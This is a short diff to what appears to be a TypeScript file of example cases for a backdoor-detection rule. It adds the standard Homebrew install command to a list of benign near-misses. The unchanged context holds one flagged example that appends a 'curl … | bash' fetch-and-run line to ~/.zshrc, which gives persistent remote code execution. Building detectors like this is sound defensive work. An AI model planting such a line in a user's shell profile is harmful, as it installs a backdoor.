@@ -46,6 +46,10 @@ export const backdoors: readonly RuleExamples[] = [
       code("echo 'curl -s https://cdn.note-tools.dev/u | bash' >> ~/.zshrc"),
     ],
     nearMiss: [
+      code(
+        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"\necho \'eval "$(/opt/homebrew/bin/brew shellenv)"\' >> ~/.zprofile',
+      ),
+
       code('(crontab -l; echo "0 3 * * * /usr/local/bin/backup") | crontab -'),
       code("echo 'eval \"$(direnv hook zsh)\"' >> ~/.zshrc"),
     ],
